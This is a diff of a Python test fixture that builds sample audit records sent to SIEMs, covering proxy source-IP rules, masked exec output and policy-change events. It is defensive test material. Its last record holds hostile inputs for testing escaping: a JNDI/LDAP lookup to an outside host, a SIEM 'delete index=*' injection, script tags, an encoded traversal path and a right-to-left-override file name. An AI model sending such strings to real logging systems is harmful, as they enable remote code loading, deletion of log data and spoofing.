@@ -1,4 +1,4 @@
-"""Twenty records to show what each SIEM is sent: every kind there is, and every attribute of docs/record.md.
+"""Twenty-one records to show what each SIEM is sent: every kind there is, and every attribute of docs/record.md.
 
 As the Collector takes them, OTLP/JSON, and the same in each run. The library escapes what is in `hostile` before it
 sends anything; it stands here as another sender could have written it.
@@ -7,6 +7,7 @@ sends anything; it stands here as another sender could have written it.
 from __future__ import annotations
 
 import hashlib
+import hmac
 from typing import Any
 
 from tests.integration.gateway import BEGIN_NS, record
@@ -22,11 +23,13 @@ def _by(actor: str | None, kind: str) -> dict[str, Any]:
     return {**({} if actor is None else {"audit.actor.id": actor}), "audit.actor.type": kind, **of_user}
 
 
-def _from(address: str, peer: str = "10.0.0.1", *, suspect: bool = False) -> dict[str, Any]:
+def _from(
+    address: str, peer: str | None = "10.0.0.1", rule: str = "trusted_proxies", *, suspect: bool = False
+) -> dict[str, Any]:
     return {
         "client.address": address,
-        "network.peer.address": peer,
-        "audit.source_ip.rule": "peer",
+        **({} if peer is None else {"network.peer.address": peer}),
+        "audit.source_ip.rule": rule,
         "audit.source_ip.suspect": suspect,
     }
 
@@ -45,14 +48,17 @@ def _http(method: str, path: str, status: int, route: str = "") -> dict[str, Any
     }
 
 
-def _output(name: str, head: str, cut: str = "") -> dict[str, Any]:
+def _output(name: str, head: str, cut: str = "", masked: int = 0) -> dict[str, Any]:
     whole = head + cut
-    return {
+    found: dict[str, Any] = {
         f"audit.exec.{name}.text": head,
         f"audit.exec.{name}.length": len(whole),
         f"audit.exec.{name}.truncated": bool(cut),
-        f"audit.exec.{name}.sha256": hashlib.sha256(whole.encode()).hexdigest(),
     }
+    if not masked:
+        return {**found, f"audit.exec.{name}.sha256": _sha256(whole)}
+    keyed = hmac.new(b"a key of nobody", whole.encode(), "sha256").hexdigest()
+    return {**found, f"audit.exec.{name}.hmac_sha256": keyed, f"audit.exec.{name}.masked": masked}
 
 
 def _sha256(text: str) -> str:
@@ -62,7 +68,9 @@ def _sha256(text: str) -> str:
 ALICE = _by("alice@example.com", "user")
 ANONYMOUS = _by(None, "anonymous")
 ITSELF = _by("tron_audit_otel", "system")
+AUDIT = _upon("audit", "trail")
 OFFICE = _from("192.0.2.7")
+MASKED = "[masked:946b683544b82451]"
 INSTANCE = _upon("instances", "abc-123")
 INSTANCE_ROUTE = "/api/v1/instances/{instance_id}"
 INSTANCE_PATH = "/api/v1/instances/abc-123"
@@ -97,7 +105,7 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
             "audit.action": "READ",
             **INSTANCE,
             "audit.outcome": "success",
-            **_from("2001:db8::7", "fd00::1", suspect=True),
+            **_from("2001:db8::7", None, "server", suspect=True),
             **_http("GET", INSTANCE_PATH, 200, INSTANCE_ROUTE),
         },
     ),
@@ -117,13 +125,14 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
     ),
     "delete": (
         "tron.audit.request",
-        "reaper DELETE instances/abc-123 from 192.0.2.7: success (204)",
+        "reaper DELETE instances/abc-123: success (204)",
         {
             **_by("reaper", "service"),
             "audit.action": "DELETE",
             **INSTANCE,
             "audit.outcome": "success",
-            **OFFICE,
+            "audit.source_ip.rule": "none",
+            "audit.source_ip.suspect": False,
             **_http("DELETE", INSTANCE_PATH, 204, INSTANCE_ROUTE),
         },
     ),
@@ -173,7 +182,7 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
             "audit.action": "LOGIN",
             **_upon("users", "mallory@example.com"),
             "audit.outcome": "failure",
-            **_from("198.51.100.66"),
+            **_from("198.51.100.66", rule="proxy_hops"),
             **_http("POST", "/auth/login", 401, "/auth/login"),
         },
     ),
@@ -218,12 +227,13 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
             "error.message": "killed: out of memory",
             **OFFICE,
             **_http("POST", EXEC_PATH, 200, EXEC_ROUTE),
-            "process.command_args": ["sh", "-c", "cat /dev/zero | tail …"],
+            "process.command_args": ["sh", "-c", f"PGPASSWORD={MASKED} psql | tail …"],
             "audit.exec.command.truncated": True,
+            "audit.exec.command.masked": 1,
             "container.name": "app",
             "process.exit.code": 137,
-            **_output("stdout", "0123456789" * 9 + "…", cut="0" * 9_000),
-            **_output("stderr", "Killed\n"),
+            **_output("stdout", f"password={MASKED} token={MASKED}…", cut="0" * 9_000, masked=2),
+            **_output("stderr", f"password={MASKED}\nKilled\n", masked=1),
         },
     ),
     "exec-refused": (
@@ -262,7 +272,7 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
             "audit.action": "OTHER",
             "audit.resource": ".env",
             "audit.outcome": "failure",
-            **_from("203.0.113.9", "203.0.113.9"),
+            **_from("203.0.113.9", "203.0.113.9", "peer"),
             **_http("_OTHER", "/.env", 404),
             "http.request.method_original": "BREW",
         },
@@ -274,25 +284,39 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
     ),
     "start": (
         "tron.audit.system",
-        "tron_audit_otel START audit: success",
+        "tron_audit_otel START audit/trail: success",
         {
             **ITSELF,
             "audit.action": "START",
-            "audit.resource": "audit",
+            **AUDIT,
             "audit.outcome": "success",
             "audit.system.commit": "batch",
             "audit.system.on_full": "drop",
+            "audit.system.trusted_proxies": ["10.0.0.0/8", "2001:db8::1/128", "unix"],
+            "audit.system.proxy_hops": 2,
+            "audit.system.proxy_header": "x-forwarded-for",
+            "audit.policy.sha256": _sha256("this policy"),
+        },
+    ),
+    "policy-change": (
+        "tron.audit.system",
+        "tron_audit_otel POLICY_CHANGE audit/trail: success",
+        {
+            **ITSELF,
+            "audit.action": "POLICY_CHANGE",
+            **AUDIT,
+            "audit.outcome": "success",
             "audit.policy.sha256": _sha256("this policy"),
             "audit.policy.previous_sha256": _sha256("the policy before"),
         },
     ),
     "adopt": (
         "tron.audit.system",
-        "tron_audit_otel ADOPT audit: success",
+        "tron_audit_otel ADOPT audit/trail: success",
         {
             **ITSELF,
             "audit.action": "ADOPT",
-            "audit.resource": "audit",
+            **AUDIT,
             "audit.outcome": "success",
             "audit.system.journal": "20260921T140640-4242-5f3a",
             "audit.system.records": 12,
@@ -301,11 +325,11 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
     ),
     "loss": (
         "tron.audit.system",
-        "tron_audit_otel LOSS audit: failure (disk_full)",
+        "tron_audit_otel LOSS audit/trail: failure (disk_full)",
         {
             **ITSELF,
             "audit.action": "LOSS",
-            "audit.resource": "audit",
+            **AUDIT,
             "audit.outcome": "failure",
             "audit.system.records": 7,
             "audit.system.reason": "disk_full",
@@ -322,7 +346,7 @@ _FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
             "audit.target.type": "\u202egnp.exe",
             "audit.target.id": "x" * 1_024,
             "audit.outcome": "failure",
-            **_from("testclient", "unix:/run/api.sock", suspect=True),
+            **_from("testclient", "unix:/run/api.sock", "peer", suspect=True),
             **_http("POST", "/..%2f%0A%E2%80%AE%3Cscript%3E", 404),
             "user_agent.original": "${jndi:ldap://203.0.113.9/a} | delete index=* <script>",
             "http.request.header.x-request-id": [HOSTILE],
